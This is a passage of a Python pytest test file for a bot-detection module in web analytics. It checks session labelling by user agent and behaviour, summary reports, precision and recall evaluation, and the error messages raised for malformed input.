    assert len(kept) == len(humans)


def test_inputs_are_not_mutated():
    frame = _mixed_frame()
    before = frame.copy(deep=True)
    out = bots.label(frame)
    bots.report(out)
    bots.split(out)
    bots.filter(frame)
    out.loc[out.index[0], "duration_s"] = -1.0  # editing the result leaves the input alone
    pd.testing.assert_frame_equal(frame, before)


def test_empty_frame_is_fine():
    empty = _visits(duration_s=[1.0]).iloc[0:0]
    out = bots.label(empty)
    assert len(out) == 0 and {"is_bot", "bot_reason", "bot_reasons"} <= set(out.columns)
    assert bots.report(out).loc["total", "sessions"] == 0
    assert len(bots.ua_verdicts([])) == 0


POOL = [GOOGLEBOT, CHROME_WIN, FACEBOOK_IOS, META_IAB_ANDROID, "curl/8.5.0", "", None, "-"]


@pytest.mark.filterwarnings("ignore:label\\(\\):UserWarning")
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    agents=st.lists(st.sampled_from(POOL), min_size=0, max_size=25),
    seed=st.integers(0, 2**16),
)
def test_label_never_changes_rows_order_or_index(agents, seed):
    rng = np.random.default_rng(seed)
    n = len(agents)
    frame = pd.DataFrame(
        {
            "user_agent": agents,
            "visitor_id": rng.choice(["a", "b", None], n),
            "ip": rng.choice(["192.0.2.1", "192.0.2.2"], n),
            "started_at": pd.Timestamp("2025-01-01", tz="UTC")
            + pd.to_timedelta(rng.integers(0, 10_000, n), unit="s"),
            "landing_page": rng.choice(["/", "/shop"], n),
            "duration_s": rng.choice([0.0, 1.0, 30.0, np.nan], n),
            "pageviews": rng.integers(1, 10, n),
            "form_seconds": rng.choice([np.nan, 0.5, 20.0], n),
        },
        index=rng.permutation(np.arange(100, 100 + n)),
    )
    before = frame.copy(deep=True)
    out = bots.label(frame)
    assert out.index.equals(frame.index)
    pd.testing.assert_frame_equal(out[frame.columns], frame)
    pd.testing.assert_frame_equal(frame, before)
    assert out["is_bot"].dtype == bool
    assert (out["is_bot"] == out["bot_reason"].ne("")).all()


# --- evaluation -------------------------------------------------------------------------


def test_evaluation_arithmetic_by_hand():
    labelled = pd.DataFrame(
        {
            "session_id": [f"s{i}" for i in range(10)],
            "is_bot": [True, True, True, True, False, False, False, False, False, False],
            "bot_reason": ["ua:list"] * 4 + [""] * 6,
        }
    )
    key = pd.DataFrame(
        {
            "session_id": [f"s{i}" for i in range(10)][::-1] + ["s99"],  # order and extra ok
            "segment": (
                ["bot", "bot", "bot", "stumbled", "bot", "bot"]
                + ["loyal_customer"] * 3
                + ["potential_buyer"]
            )[::-1]
            + ["bot"],
        }
    )
    # truth by id: s0-s2 bot, s3 human | s4, s5 bot | s6-s9 human
    result = bots.evaluate(labelled, key)
    assert (result.tp, result.fp, result.fn, result.tn) == (3, 1, 2, 4)
    assert result.precision == pytest.approx(0.75)
    assert result.recall == pytest.approx(0.6)
    assert result.f1 == pytest.approx(2 * 0.75 * 0.6 / 1.35)
    assert result.confusion.loc["bot", "flagged as bot"] == 3
    assert result.confusion.to_numpy().sum() == 10
    assert repr(result) == (
        "Evaluation(precision 75.0%, recall 60.0%, F1 66.7%; tp 3, fp 1, fn 2, tn 4)"
    )
    series = key.set_index("session_id")["segment"].eq("bot")
    assert bots.evaluate(labelled, series) == result


def test_evaluation_undefined_precision_is_nan():
    labelled = pd.DataFrame({"session_id": ["a"], "is_bot": [False], "bot_reason": [""]})
    result = bots.evaluate(labelled, pd.Series([False], index=["a"]))
    assert math.isnan(result.precision) and math.isnan(result.recall)
    assert "n/a" in repr(result)


def test_evaluation_errors():
    labelled = pd.DataFrame(
        {"session_id": ["a", "b"], "is_bot": [True, False], "bot_reason": ["ua:list", ""]}
    )
    with pytest.raises(ValueError, match=r"1 of 2 labelled session\(s\) are not in the truth"):
        bots.evaluate(labelled, pd.Series([True], index=["a"]))
    with pytest.raises(ValueError, match="truth repeats"):
        bots.evaluate(labelled, pd.Series([True, True, False], index=["a", "a", "b"]))
    with pytest.raises(ValueError, match="labelled repeats"):
        bots.evaluate(labelled.assign(session_id=["a", "a"]), pd.Series([True], index=["a"]))
    with pytest.raises(KeyError, match="segment"):
        bots.evaluate(labelled, pd.DataFrame({"session_id": ["a", "b"]}))
    with pytest.raises(TypeError, match="True/False"):
        bots.evaluate(labelled, pd.Series(["bot", "human"], index=["a", "b"]))
    with pytest.raises(KeyError, match=r"Label the sessions first: bots.label\(sessions\)"):
        bots.evaluate(labelled.drop(columns="is_bot"), pd.Series([True], index=["a"]))


# --- bad input --------------------------------------------------------------------------


def test_missing_ua_column_lists_columns_and_suggests_one():
    frame = pd.DataFrame({"session_id": ["s1"], "ua": [CHROME_WIN]})
    with pytest.raises(KeyError) as err:
        bots.label(frame, UA_ONLY)
    message = str(err.value)
    assert "label(): sessions has no column 'user_agent'" in message
    assert "It has: session_id, ua" in message
    assert "ua_column='ua'" in message
    assert bots.label(frame, UA_ONLY, ua_column="ua")["is_bot"].tolist() == [False]


def test_non_string_user_agents_are_refused_with_rows_and_fix():
    frame = pd.DataFrame({"user_agent": [CHROME_WIN, 42, None, 3.5]}, index=[5, 6, 7, 8])
    with pytest.raises(TypeError) as err:
        bots.label(frame, UA_ONLY)
    message = str(err.value)
    assert "column 'user_agent' must hold text" in message
    assert "2 row(s)" in message and "row 6: 42 (int)" in message
    assert ".astype(str)" in message


def test_missing_behaviour_columns_name_the_rule_and_the_switch():
    frame = _agents(CHROME_WIN)
    with pytest.raises(KeyError) as err:
        bots.label(frame)
    message = str(err.value)
    assert "rule 'too_fast' needs column(s) 'duration_s', 'pageviews'" in message
    assert "BotRules(too_fast_seconds=None)" in message and "BotRules.ua_only()" in message
    rules = BotRules(too_fast_seconds=None, max_pages_per_minute=None, fast_form_seconds=None)
    with pytest.raises(KeyError, match=r"rule 'schedule' needs column\(s\) 'started_at'"):
        bots.label(frame, rules)
    # optional columns: the rules that need them are skipped, with one warning naming them
    no_keys = _visits(duration_s=[1.0]).drop(columns=["visitor_id", "ip", "form_seconds"])
    with pytest.warns(UserWarning) as record:
        out = bots.label(no_keys, BotRules(schedule_keys=("visitor_id", "ip")))
    assert len(record) == 1
    message = str(record[0].message)
    assert "rule 'schedule' skipped" in message and "'visitor_id', 'ip'" in message
    assert "rule 'fast_form' skipped" in message and "spread" not in message  # no ip: silent
    assert out["bot_reason"].tolist() == ["behaviour:too_fast"]


def test_bad_values_and_types():
    with pytest.raises(ValueError, match="column 'duration_s' must hold numbers"):
        bots.label(_visits(duration_s=["fast"]))
    with pytest.raises(ValueError, match="column 'started_at' must hold timestamps"):
        bots.label(_visits(started_at=["yesterday"]))
    with pytest.raises(TypeError, match="sessions must be a pandas DataFrame"):
        bots.label([CHROME_WIN])
    with pytest.raises(TypeError, match="rules must be a BotRules"):
        bots.label(_agents(CHROME_WIN), {"too_fast_seconds": 1})
    with pytest.raises(KeyError, match="has no column 'is_bot'"):
        bots.report(_agents(CHROME_WIN))


def test_started_at_as_iso_text_works():
    frame = _timer([300] * 5)
    frame["started_at"] = frame["started_at"].dt.strftime("%Y-%m-%dT%H:%M:%SZ")
    assert bots.label(frame)["is_bot"].all()


# --- the kit's data, when it exists ---------------------------------------------------


@pytest.mark.skipif(not (DATA / "answer_key.csv").exists(), reason="kit data not generated")
def test_kit_data_against_the_answer_key():
    sessions = pd.read_csv(
        DATA / "sessions.csv", dtype={"user_agent": "str"}, keep_default_na=False, na_values=[""]
    )
    key = pd.read_csv(DATA / "answer_key.csv", keep_default_na=False)
    result = bots.evaluate(bots.label(sessions), key)
    # 1.67.0 + default rules on the seeded kit data: precision 99.4%, recall 99.9%
    assert result.precision >= 0.97 and result.recall >= 0.95, result


# --- robots.txt, spread, missing agents, lost reasons, missing truth ----------------------


def test_robots_txt_rule_flags_sessions_that_asked_for_it():
    frame = _visits(duration_s=[60.0] * 3, robots_txt=[True, False, None])
    frame["robots_txt"] = frame["robots_txt"].astype("boolean")
    out = bots.label(frame)
    assert out["bot_reason"].tolist() == ["behaviour:robots_txt", "", ""]
    assert not bots.label(frame, BotRules(robots_txt=False))["is_bot"].any()
    # Python bools in an object column are fine; absent column: rule silently off
    frame["robots_txt"] = pd.Series([True, False, None], dtype=object)
    assert bots.label(frame)["is_bot"].tolist() == [True, False, False]
    assert not bots.label(frame.drop(columns="robots_txt"))["is_bot"].any()


@pytest.mark.parametrize("text", [["True", "False", "False"], ["yes", "no", "no"], [1, 0, 0]])
def test_robots_txt_text_or_numbers_are_refused_with_the_fix(text):
    frame = _visits(duration_s=[60.0] * 3, robots_txt=text)
    with pytest.raises(TypeError) as err:
        bots.label(frame)
    assert "column 'robots_txt' must hold True/False" in str(err.value)
    assert ".map(" in str(err.value)


def _burst(
    n_ips, minutes, agent="Mozilla/5.0 (Windows NT 6.1; rv:45.0) Gecko/20100101 Firefox/45.0"
):
    times = pd.Timestamp("2025-03-03 10:00", tz="UTC") + pd.to_timedelta(
        np.linspace(0, minutes * 60, n_ips), unit="s"
    )
    return _visits(
        started_at=times,
        ip=[f"198.51.100.{i}" for i in range(n_ips)],
        visitor_id=[f"x{i}" for i in range(n_ips)],
        landing_page=[f"/p{i}" for i in range(n_ips)],
        user_agent=[agent] * n_ips,
        duration_s=[30.0] * n_ips,
    )


def test_spread_rule_one_agent_from_many_addresses_within_minutes():
    # constructed: a crawler posing as an old Firefox from 44 addresses in 8 minutes
    out = bots.label(_burst(44, 8))
    assert out["bot_reason"].eq("behaviour:spread").all()
    # boundary: 20 addresses fire, 19 do not; the same 44 spread over six hours do not
    assert bots.label(_burst(20, 4))["is_bot"].all()
    assert not bots.label(_burst(19, 4))["is_bot"].any()
    assert not bots.label(_burst(44, 360))["is_bot"].any()
    assert not bots.label(_burst(44, 8), BotRules(spread_min_ips=None))["is_bot"].any()


def test_no_user_agents_at_all_is_judged_by_behaviour_with_one_warning():
    frame = _visits(duration_s=[60.0, 0.5], pageviews=[2, 5], user_agent=["", None])
    with pytest.warns(UserWarning, match="judged by behaviour only") as record:
        out = bots.label(frame)
    assert len(record) == 1
    assert out["bot_reason"].tolist() == ["", "behaviour:too_fast"]  # not 100% bots
    # said explicitly: no warning, same verdicts; the column may be absent
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        explicit = bots.label(frame.drop(columns="user_agent"), user_agents=False)
    assert explicit["bot_reason"].tolist() == ["", "behaviour:too_fast"]
    with pytest.raises(TypeError, match="user_agents must be True, False or None"):
        bots.label(frame, user_agents="no")


def test_many_missing_agents_warn_once_in_label_and_report():
    frame = _agents(None, "", "-", CHROME_WIN)
    with pytest.warns(UserWarning) as record:
        labelled = bots.label(frame, UA_ONLY)
    assert len(record) == 1 and "3 of 4 sessions (75%) have no user agent" in str(record[0].message)
    assert labelled["bot_reason"].tolist() == ["ua:missing"] * 3 + [""]
    with pytest.warns(UserWarning, match=r"report\(\): 3 of 4 sessions"):
        bots.report(labelled)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        bots.label(_agents(None, CHROME_WIN, CHROME_WIN), UA_ONLY)  # a third: no warning


def test_report_reconciles_when_reasons_are_lost():
    labelled = bots.label(_agents(*([GOOGLEBOT] * 30 + [CHROME_WIN] * 70)), UA_ONLY)
    labelled["bot_reason"] = labelled["bot_reason"].astype(object)
    labelled.loc[labelled.index[:12], "bot_reason"] = None  # lost in a merge
    labelled.loc[labelled.index[12:20], "bot_reason"] = ""
    table = bots.report(labelled)
    assert table.loc["total", "sessions"] == 100
    assert table.drop(index="total")["sessions"].sum() == 100
    assert table.loc["unknown", "sessions"] == 20
    assert table.loc["human", "sessions"] == 70


def test_evaluate_refuses_a_missing_truth_and_text_booleans():
    labelled = pd.DataFrame(
        {"session_id": ["a", "b", "c"], "is_bot": [True, False, False], "bot_reason": ["x", "", ""]}
    )
    key = pd.DataFrame({"session_id": ["a", "b", "c"], "segment": ["bot", None, "loyal"]})
    with pytest.raises(ValueError, match="without a segment.*not 'human'"):
        bots.evaluate(labelled, key)
    as_text = pd.Series(["True", "False", "False"], index=["a", "b", "c"])
    with pytest.raises(TypeError, match=r"'True'/'False' is not read as a boolean"):
        bots.evaluate(labelled, as_text)
    as_objects = pd.Series([True, False, False], index=["a", "b", "c"], dtype=object)
    assert bots.evaluate(labelled, as_objects).tp == 1
    text_flags = labelled.assign(is_bot=["True", "False", "False"])
    with pytest.raises(TypeError, match="'True'/'False'"):
        bots.report(text_flags)
